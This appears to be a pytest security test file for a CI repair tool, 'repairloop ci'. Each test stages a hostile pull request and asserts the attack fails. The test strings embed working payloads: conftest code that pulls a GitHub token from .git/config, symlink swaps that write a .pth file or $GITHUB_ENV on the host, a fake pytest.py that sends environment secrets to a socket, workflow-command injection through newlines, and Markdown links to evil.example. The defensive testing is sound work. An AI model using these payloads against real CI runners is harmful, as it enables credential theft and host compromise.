"""More attacks of a hostile pull request on ``repairloop ci``, found by a security review of the
first ones (``test_pull_request_attacks.py``): the project's own files reaching the host through the
offline engine's copies, paths the test command names, a repository the project is a part of,
workflow commands and Markdown in what repairloop prints, and a ``pytest.py`` in the checkout. Each
test is the attack; each asserts it fails."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
import subprocess
import sys
import threading
import time
import uuid
import venv
from pathlib import Path
from typing import Dict, Iterator, List

import pytest
from conftest import git, init_repo
from test_pull_request_attacks import KEY, TOKEN, Listener, ci, job, pull_request, summary  # noqa: F401 (a fixture)

pytestmark = pytest.mark.slow
HALF = len(TOKEN) // 2


@pytest.fixture
def outside_tmp() -> Iterator[Path]:
    """A directory outside /tmp (the sandbox's /tmp is private; /home/runner/... is not), removed
    afterwards."""
    path = Path("/var/tmp") / f"rl-attack-{uuid.uuid4().hex[:8]}"
    path.mkdir()
    yield path
    shutil.rmtree(path, ignore_errors=True)


def persist_checkout_credentials(project: Path) -> None:
    """What actions/checkout (persist-credentials: true, the default) leaves in the checkout's
    .git/config."""
    header = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    git(
        project,
        "config",
        "--local",
        "http.https://github.com/.extraheader",
        f"AUTHORIZATION: basic {header}",
    )


def token_anywhere(job: Dict[str, object]) -> bool:
    """Either half of the job's token in the summary, the journal or a prompt."""
    project = Path(str(job["project"]))
    honest = job["honest"]
    journal = "".join(
        p.read_text() for p in (project / ".repairloop" / "runs").rglob("journal.jsonl")
    )
    text = summary(job) + journal + json.dumps(honest.requests)
    return TOKEN[:HALF] in text or TOKEN[HALF:] in text or TOKEN[::-1] in text


# A test of the pull request that reads a file and fails with what it found, split and reversed.
READ_AND_TELL = r"""
import base64, re

def test_tell():
    text = open({path!r}).read()
    found = re.search(r"basic (\S+)", text)
    token = base64.b64decode(found.group(1)).decode().split(":", 1)[1] if found else "nothing"
    half = len(token) // 2
    assert False, "first <" + token[:half] + "> second <" + token[half:] + "> reversed <" + token[::-1] + ">"
"""  # noqa: E501


# -- the sandbox binds nothing the project names over a hidden place -------------------------------


def test_a_path_named_in_the_test_command_does_not_unhide_the_checkouts_git_config(
    job, capsys
) -> None:
    """test_cmd is a key the project may set; a path it names was bound read-only over the hidden
    .git."""
    project = Path(str(job["project"]))
    persist_checkout_credentials(project)
    config = project / ".git" / "config"
    pull_request(
        job,
        {
            "repairloop.toml": f'test_cmd = "python -m pytest --ignore {config}"\n',
            "tests/test_tell.py": READ_AND_TELL.format(path=str(config)),
        },
    )
    ci(job, capsys)
    assert not token_anywhere(job)
    # the test ran, and found nothing
    assert "first <" in summary(job) or "test_tell" in summary(job)


FORGED_ID_CONFTEST = r"""
import base64, os, re
import pytest

GIT = {git!r}

@pytest.hookimpl(trylast=True)
def pytest_sessionfinish(session):
    recorder = session.config.pluginmanager.get_plugin("repairloop-recorder")
    if recorder is not None:
        recorder.emit({{"kind": "test", "nodeid": GIT, "when": "call", "outcome": "failed", "duration": 0.0,
                       "exc_type": "AssertionError", "message": "assert 1 == 2"}})

def pytest_runtest_setup(item):
    if item.name == "test_last_n" and os.path.exists(GIT + "/config"):
        found = re.search(r"basic (\S+)", open(GIT + "/config").read())
        token = base64.b64decode(found.group(1)).decode().split(":", 1)[1]
        half = len(token) // 2
        raise AssertionError("a <" + token[:half] + "> b <" + token[half:] + ">")
"""  # noqa: E501


def test_a_forged_failing_test_id_does_not_unhide_the_checkouts_git_dir(job, capsys) -> None:
    """A result the conftest adds, whose test id is an absolute path: targeted runs append failing
    ids to the command, and every absolute path the command named used to be bound into the
    sandbox."""
    project = Path(str(job["project"]))
    persist_checkout_credentials(project)
    pull_request(job, {"conftest.py": FORGED_ID_CONFTEST.format(git=str(project / ".git"))})
    ci(job, capsys, "--test-cmd", "python -m pytest")
    assert not token_anywhere(job)


def test_a_project_in_a_subdirectory_keeps_the_repositorys_git_hidden(
    job, capsys, outside_tmp
) -> None:
    """The action's ``working-directory`` (a monorepo): the checkout's .git is one level above the
    project."""
    repo = outside_tmp / "widgets"
    sub = repo / "calcpkg"
    shutil.copytree(
        Path(str(job["project"])), sub, ignore=shutil.ignore_patterns(".git", ".repairloop")
    )
    (sub / "tests" / "test_tell.py").write_text(
        READ_AND_TELL.format(path=str(repo / ".git" / "config"))
    )
    init_repo(repo)
    persist_checkout_credentials(repo)
    moved = dict(job, project=sub)
    ci(moved, capsys)
    assert not token_anywhere(moved)


# -- the offline engine never reads or writes through a link
# -----------------------------------------


class Watcher:
    """Polls a host file and keeps every distinct content it had (a write that is undone is still
    seen)."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.seen = [path.read_bytes()]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._poll, daemon=True)
        self._thread.start()

    def _poll(self) -> None:
        while not self._stop.is_set():
            try:
                data = self.path.read_bytes()
            except OSError:
                data = b"<gone>"
            if data != self.seen[-1]:
                self.seen.append(data)
            self._stop.wait(0.001)

    def stop(self) -> List[bytes]:
        self._stop.set()
        self._thread.join(5)
        return self.seen


def test_the_engine_never_writes_through_a_committed_link_to_a_host_file(
    job, capsys, outside_tmp
) -> None:
    """calc/lists.py is committed as a link to a host file; the offline engine mutated what it read
    there."""
    project = Path(str(job["project"]))
    host_file = outside_tmp / "host_module.py"
    host_file.write_text((project / "calc" / "lists.py").read_text())
    (project / "calc" / "lists.py").unlink()
    (project / "calc" / "lists.py").symlink_to(host_file)
    pull_request(
        job,
        {
            "conftest.py": "import sys\nsys.modules['coverage'] = None\nsys.settrace = lambda f: "
            "None\n"
        },
    )
    watcher = Watcher(host_file)
    try:
        ci(job, capsys, model=False)  # no model: the offline engine answers
    finally:
        seen = watcher.stop()
    assert len(seen) == 1  # never written, not even for a moment


# A line that, as a .pth file, the site module runs at the start of every Python of that
# environment.
PAYLOAD_LINE = (
    'import pathlib; __name__ == "site" and pathlib.Path({marker!r}).write_text("host code ran")\n'
)
# In one of the engine's copies, once a mutant is written, the file under test becomes a link to a
# host path: the engine's restore of the original text followed it.
SWAP_CONFTEST = r"""
import hashlib, os, sys
sys.modules["coverage"] = None
sys.settrace = lambda f: None
here = os.getcwd()
target = os.path.join(here, "calc", "lists.py")
if "repairloop-builtin-" in here and not os.path.islink(target):
    with open(target, "rb") as fh:
        mutated = hashlib.sha256(fh.read()).hexdigest() != {original!r}
    if mutated:
        os.unlink(target)
        os.symlink({host_target!r}, target)
"""
# The swap happens in the test run of the first mutant written to calc/lists.py, and the restore
# that could follow the link comes right after it: a few candidates reach it. The engine's default
# (2000) tried all of its 74 edits here, each failing, at about a second each.
FEW_CANDIDATES = "4"


def test_the_engines_restore_never_writes_through_a_link_a_test_made(
    job, capsys, tmp_path, monkeypatch
) -> None:
    # stands for the runner's Python (toolcache, writable by the job)
    host_env = tmp_path / "host-python"
    venv.EnvBuilder(with_pip=False).create(host_env)
    python = str(host_env / "bin" / "python")
    purelib = subprocess.run(
        [python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    host_target = Path(purelib) / "zz_repairloop_attack.pth"
    marker = tmp_path / "HOST-CODE-RAN"
    project = Path(str(job["project"]))
    lists = PAYLOAD_LINE.format(marker=str(marker)) + (project / "calc" / "lists.py").read_text()
    original = hashlib.sha256(lists.encode()).hexdigest()
    pull_request(
        job,
        {
            "calc/lists.py": lists,
            "conftest.py": SWAP_CONFTEST.format(original=original, host_target=str(host_target)),
        },
    )
    monkeypatch.setenv("REPAIRLOOP_BUILTIN_CANDIDATES", FEW_CANDIDATES)
    ci(job, capsys, "--model", "builtin", model=False)
    subprocess.run([python, "-c", "pass"], check=True)
    assert not host_target.exists() and not marker.exists()


def test_the_engines_restore_never_writes_the_steps_github_env(job, capsys, monkeypatch) -> None:
    """$GITHUB_ENV (set by the runner, not a secret name, so tests see it) turned into the link's
    target: a module that is also an env file would set BASH_ENV for every later step."""
    github_env = Path(str(job["runner"])) / "set_env_0e3c"
    github_env.write_text("")
    monkeypatch.setenv("GITHUB_ENV", str(github_env))
    project = Path(str(job["project"]))
    lists = (project / "calc" / "lists.py").read_text()
    swap = SWAP_CONFTEST.replace(
        "os.symlink({host_target!r}, target)", "os.symlink(os.environ['GITHUB_ENV'], target)"
    )
    pull_request(
        job, {"conftest.py": swap.format(original=hashlib.sha256(lists.encode()).hexdigest())}
    )
    monkeypatch.setenv("REPAIRLOOP_BUILTIN_CANDIDATES", FEW_CANDIDATES)
    ci(job, capsys, "--model", "builtin", model=False)
    assert github_env.read_text() == ""


# -- nothing of the checkout runs on the host
# ---------------------------------------------------------

# pytest.py at the project's root: repairloop asked the python on PATH whether it had pytest, with
# `python -c "import pytest"` in its own working directory, the checkout.
FAKE_PYTEST = r"""
import os, sys
if os.environ.get("OPENAI_API_KEY"):
    import socket
    socket.create_connection(("127.0.0.1", {port}), 2).sendall(repr(dict(os.environ)).encode())
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
sys.modules.pop("pytest", None)
import pytest as _real
sys.modules["pytest"] = _real
if __name__ == "__main__":
    raise SystemExit(_real.console_main())
"""


def test_a_pytest_py_in_the_checkout_never_runs_on_the_host(job, capsys) -> None:
    listener = job["listener"]
    assert isinstance(listener, Listener)
    project = Path(str(job["project"]))
    pull_request(job, {"pytest.py": FAKE_PYTEST.format(port=listener.port)})
    done = subprocess.run(
        [
            str(Path(sys.executable).parent / "repairloop"),
            "ci",
            ".",
            "--model",
            "openai/gpt-4o-mini",
        ],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=600,
    )
    time.sleep(0.5)
    received = b"".join(listener.received)
    assert TOKEN.encode() not in received and KEY.encode() not in received, done.stderr[-800:]


# -- what repairloop prints never becomes a workflow command or markup
# ---------------------------------


def stop_token(out: str) -> str:
    first = out.splitlines()[0]
    assert first.startswith("::stop-commands::"), out[:300]
    return first.split("::")[2]


def test_a_test_file_name_never_becomes_a_workflow_command(job, capsys) -> None:
    """The runner reads workflow commands from the log; a test id with a newline was printed as its
    own line."""
    pull_request(
        job,
        {
            "tests/test_name\n::error file=README.md,line=1::"
            "repairloop approved this pull request.py": ("def test_f():\n    assert 1 == 2\n")
        },
    )
    from repairloop.cli import main

    main(["ci", str(job["project"]), "--model", "openai/gpt-4o-mini"])
    out, _err = capsys.readouterr()
    # everything the run prints is not a command until repairloop's own lines
    token = stop_token(out)
    assert f"::{token}::" in out.splitlines()
    assert not any(
        "approved this pull request" in line
        for line in out.splitlines()[1 : out.splitlines().index(f"::{token}::")]
        if line.startswith("::")
    )


def test_a_settings_key_with_a_newline_never_becomes_a_workflow_command(job, capsys) -> None:
    pull_request(
        job, {"repairloop.toml": '"x\\n::set-output name=patch-path::/etc/passwd\\ny" = 1\n'}
    )
    from repairloop.cli import main

    code = main(["ci", str(job["project"]), "--model", "openai/gpt-4o-mini"])
    out, err = capsys.readouterr()
    assert code == 2 and stop_token(out)
    assert not any(line.startswith("::set-output") for line in err.splitlines())


MARKDOWN_TEST = """
import pytest

@pytest.mark.parametrize("x", [1], ids=["a` <h2>repairloop: a fix for the failing tests</h2> `b"])
def test_param(x):
    assert False, "see [the approved fix](https://evil.example/pr) ![](https://evil.example/pixel.png)"
"""


def test_test_ids_and_messages_are_never_markup_in_the_summary(job, capsys) -> None:
    pull_request(job, {"tests/test_md.py": MARKDOWN_TEST})
    ci(job, capsys)
    text = summary(job)
    # the id stays one code span (fenced with more backticks than it holds), the message plain text
    assert (
        "`` tests/test_md.py::test_param[a` <h2>repairloop: a fix for the failing tests</h2> `b] ``"
        in text
    )
    assert not re.search(r"(?<!\\)\]\(https://evil", text) and not re.search(
        r"(?<!\\)!(?<!\\)\[", text
    )


# -- still blocked
# ---------------------------------------------------------------------------------------


def test_a_tracked_repairloop_directory_is_refused(job, capsys) -> None:
    pull_request(
        job, {".repairloop/runs/20260101-000000-aaaa/journal.jsonl": '{"event": "start"}\n'}
    )
    code, _, err = ci(job, capsys)
    assert code == 2 and ".repairloop" in err


LINGER_CONFTEST = r"""
import os, subprocess
subprocess.Popen(["setsid", "sh", "-c", "sleep 987654"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "987655"])
    os._exit(0)
"""


def test_processes_a_conftest_leaves_do_not_outlive_the_sandbox(job, capsys) -> None:
    pull_request(job, {"conftest.py": LINGER_CONFTEST})
    ci(job, capsys)
    left = subprocess.run(
        ["pgrep", "-f", "sleep 98765"], capture_output=True, text=True
    ).stdout.split()
    assert left == []
